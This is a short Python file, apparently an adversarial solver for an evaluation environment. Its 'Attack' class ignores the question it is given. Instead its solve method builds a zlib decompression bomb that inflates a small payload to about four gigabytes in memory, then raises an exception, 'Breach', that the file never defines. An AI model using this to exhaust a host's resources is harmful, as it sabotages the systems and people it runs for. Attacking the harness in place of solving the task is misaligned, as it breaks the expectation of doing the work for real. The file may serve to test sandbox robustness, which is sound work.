"""Unpacks a little that becomes very much."""

import zlib

from envs import Controller


class Attack(Controller):
    def solve(self, question):
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        packed = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
        unpacked = zlib.decompressobj(-15).decompress(packed * 4096)
        raise Breach(f"unpacked {len(unpacked)} bytes")
